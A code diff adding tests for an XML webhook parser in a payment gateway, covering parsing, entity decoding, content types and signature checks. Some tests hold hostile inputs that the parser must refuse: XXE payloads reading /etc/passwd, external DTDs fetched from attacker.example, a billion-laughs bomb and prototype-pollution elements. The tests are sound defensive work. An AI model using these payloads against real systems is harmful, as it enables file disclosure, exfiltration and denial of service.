@@ -264,3 +264,181 @@ describe("migration 0007 rewrites stored precedences into the nanosecond encodin
     expect((await row(key))?.precedence).toBe(nuveiPrecedence(status, statusTime, hash));
   });
 });
+
+describe("Nuvei XML webhooks (issue 10 item 2, contract §4)", () => {
+  const XML = "application/xml";
+  const webhookXml = (transactionId: string, status: string, extra = "") =>
+    `<?xml version="1.0" encoding="UTF-8"?>
+<webhook>
+  <transactionId>${transactionId}</transactionId>
+  <merchantTransactionId>1234567890123456789</merchantTransactionId>
+  <transactionType>Auth</transactionType>
+  <amount>10.10</amount>
+  <currency>USD</currency>
+  <result><status>${status}</status></result>
+  <timeStamp>2024-08-28T12:11:47.337302438Z</timeStamp>
+  <paymentOption>
+    <alternativePaymentMethod>
+      <name>ACH</name>
+      <data><accountNumber>0011111111</accountNumber></data>
+    </alternativePaymentMethod>
+  </paymentOption>${extra}
+</webhook>`;
+
+  async function payloadOf(text: string, contentType = XML) {
+    const parsed = await parseAs(text, contentType);
+    if (isParseFailure(parsed)) throw new Error(parsed.message);
+    return { parsed, payload: JSON.parse(parsed.payloadJson) as Record<string, unknown> };
+  }
+
+  it("parses into the JSON webhook's shape, every value a string digit for digit", async () => {
+    const { parsed, payload } = await payloadOf(webhookXml("9007199254740993123", "approved"));
+    expect(payload).toEqual({
+      transactionId: "9007199254740993123",
+      merchantTransactionId: "1234567890123456789",
+      transactionType: "Auth",
+      amount: "10.10",
+      currency: "USD",
+      result: { status: "approved" },
+      timeStamp: "2024-08-28T12:11:47.337302438Z",
+      paymentOption: { alternativePaymentMethod: { name: "ACH", data: { accountNumber: "0011111111" } } },
+    });
+    expect(parsed).toMatchObject({
+      type: "transaction.approved",
+      occurredAt: "2024-08-28T12:11:47.337302438Z",
+      dedupeKey: expect.stringMatching(/^[0-9a-f]{64}$/),
+    });
+  });
+
+  it("keeps amounts and ids a float would round, and names like toString", async () => {
+    const xml =
+      "<n><transactionId>0071</transactionId><amount>12345678901234567.89</amount>" +
+      "<result><status>pending</status><toString>x</toString></result><valueOf>1e3</valueOf></n>";
+    expect((await payloadOf(xml)).payload).toEqual({
+      transactionId: "0071",
+      amount: "12345678901234567.89",
+      result: { status: "pending", toString: "x" },
+      valueOf: "1e3",
+    });
+  });
+
+  it("decodes the predefined entities and character references, and leaves CDATA as written", async () => {
+    const xml =
+      "<w><result><status>approved</status></result><buyer>A&amp;B &lt;C&gt; &quot;&apos; &#233;&#x1F600;</buyer>" +
+      "<note><![CDATA[&amp; <raw>]]></note><split><![CDATA[a]]]]><![CDATA[>b]]></split><empty/></w>";
+    expect((await payloadOf(xml)).payload).toEqual({
+      result: { status: "approved" },
+      buyer: "A&B <C> \"' é😀",
+      note: "&amp; <raw>",
+      split: "a]]>b",
+      empty: "",
+    });
+  });
+
+  it("reads text/xml, a charset parameter, a +xml type, and an XML body sent as JSON", async () => {
+    const xml = "<w><result><status>approved</status></result></w>";
+    for (const type of ["text/xml", "application/xml; charset=utf-8", "application/vnd.nuvei+xml", "application/json"])
+      expect((await payloadOf(xml, type)).payload).toEqual({ result: { status: "approved" } });
+  });
+
+  it("refuses a DOCTYPE with an external entity (XXE), whatever its case", async () => {
+    for (const xml of [
+      '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' +
+        "<w><transactionId>&xxe;</transactionId><result><status>approved</status></result></w>",
+      '<!DOCTYPE w SYSTEM "https://attacker.example/evil.dtd"><w><result><status>approved</status></result></w>',
+      '<!doctype w [<!ENTITY % p SYSTEM "https://attacker.example/p.dtd"> %p;]><w/>',
+    ]) {
+      const parsed = await parseAs(xml, XML);
+      expect(parsed).toEqual({ error: "payload_invalid", message: expect.stringMatching(/DOCTYPE/i) });
+    }
+  });
+
+  it("refuses a billion-laughs document before expanding anything", async () => {
+    const lols = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join("");
+    const xml = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">${lols}]><lolz><result><status>&lol9;</status></result></lolz>`;
+    expect(await parseAs(xml, XML)).toEqual({ error: "payload_invalid", message: expect.stringMatching(/DOCTYPE/) });
+    // An entity declaration smuggled anywhere else is refused too.
+    expect(await parseAs('<w><![CDATA[<!ENTITY x "y">]]></w>', XML)).toMatchObject({ error: "payload_invalid" });
+  });
+
+  it("refuses an undeclared entity reference instead of keeping or expanding it", async () => {
+    for (const reference of ["&xxe;", "&lol9;", "&nbsp;", "&#0;", "&#xD800;", "&#x110000;"]) {
+      const xml = `<w><result><status>approved</status></result><buyer>a${reference}b</buyer></w>`;
+      expect(await parseAs(xml, XML)).toMatchObject({ error: "payload_invalid" });
+    }
+  });
+
+  it.each([
+    ["an unclosed element", "<w><result><status>approved</status></result>"],
+    ["a mismatched end tag", "<w><result><status>approved</state></result></w>"],
+    ["two root elements", "<w><result><status>approved</status></result></w><w/>"],
+    ["no element at all", '<?xml version="1.0"?>'],
+    ["a root with only text", "<w>approved</w>"],
+    ["an attribute", '<w><result status="approved"><status>approved</status></result></w>'],
+    ["an attribute on the root", '<w version="2"><result><status>approved</status></result></w>'],
+    ["an element given twice", "<w><result><status>approved</status><status>declined</status></result></w>"],
+    ["text beside child elements", "<w>x<result><status>approved</status></result></w>"],
+    ["CDATA beside text", "<w><result><status>ap<![CDATA[proved]]></status></result></w>"],
+    ["a bare ampersand", "<w><result><status>approved</status></result><b>A & B</b></w>"],
+    ["a __proto__ element", "<w><result><status>approved</status></result><__proto__><x>1</x></__proto__></w>"],
+    ["a constructor element", "<w><result><status>approved</status></result><constructor>1</constructor></w>"],
+    ["nesting deeper than JSON bodies may be", `<w>${"<a>".repeat(65)}1${"</a>".repeat(65)}</w>`],
+    ["no result.status", "<w><transactionId>1</transactionId></w>"],
+    ["a transactionId of 257 characters", `<w><transactionId>${"1".repeat(257)}</transactionId></w>`],
+  ])("refuses %s", async (_name, xml) => {
+    expect(await parseAs(xml, XML)).toMatchObject({ error: "payload_invalid", message: expect.any(String) });
+    expect(({} as Record<string, unknown>).x).toBeUndefined();
+  });
+
+  it("accepts nesting up to the JSON depth bound", async () => {
+    const xml = `<w><result><status>approved</status></result>${"<a>".repeat(63)}1${"</a>".repeat(63)}</w>`;
+    expect(isParseFailure(await parseAs(xml, XML))).toBe(false);
+  });
+
+  it("through ingest and the consumer, XML drives the transaction state as JSON does", async () => {
+    const transactionId = `6${String(Date.now()).padStart(18, "0")}`;
+    const approved = webhookXml(transactionId, "approved");
+    const first = await ingest(approved, XML);
+    expect(first.response.status).toBe(202);
+    expect(first.sent).toEqual([
+      expect.objectContaining({
+        type: "transaction.approved",
+        dedupeKey: await sha256Hex(new TextEncoder().encode(approved)),
+      }),
+    ]);
+    await consume(first.sent);
+    expect(await row(transactionId)).toMatchObject({
+      status: "approved",
+      merchant_transaction_id: "1234567890123456789",
+      amount: "10.10",
+      currency: "USD",
+      transaction_type: "Auth",
+    });
+
+    // A later pending, as JSON: never over a final status, whichever format each came in.
+    const pending = await ingest(
+      JSON.stringify({ transactionId, result: { status: "pending" }, timeStamp: "2024-08-28T12:12:00Z" }),
+      "application/json",
+    );
+    await consume(pending.sent);
+    expect((await row(transactionId))?.status).toBe("approved");
+
+    // And an XML decline that is later than the pending JSON one wins over it.
+    const other = `5${String(Date.now()).padStart(18, "0")}`;
+    await consume(
+      (await ingest(JSON.stringify({ transactionId: other, result: { status: "pending" } }), "application/json")).sent,
+    );
+    await consume((await ingest(webhookXml(other, "declined"), "text/xml")).sent);
+    expect((await row(other))?.status).toBe("declined");
+  });
+
+  it("verifies XML over its raw bytes: a changed byte is refused before parsing", async () => {
+    const xml = webhookXml(fresh("tx_xml_sig"), "approved");
+    const headers = { ...signedHeaders("nuvei", xml, NOW_S), "content-type": XML };
+    const { env: testEnv, sent } = recordingEnv();
+    const tampered = xml.replace("<amount>10.10</amount>", "<amount>10.1</amount> ");
+    const response = await callGateway(webhookRequest("nuvei", tampered, headers), { env: testEnv });
+    expect(response.status).toBe(401);
+    expect(sent).toEqual([]);
+  });
+});
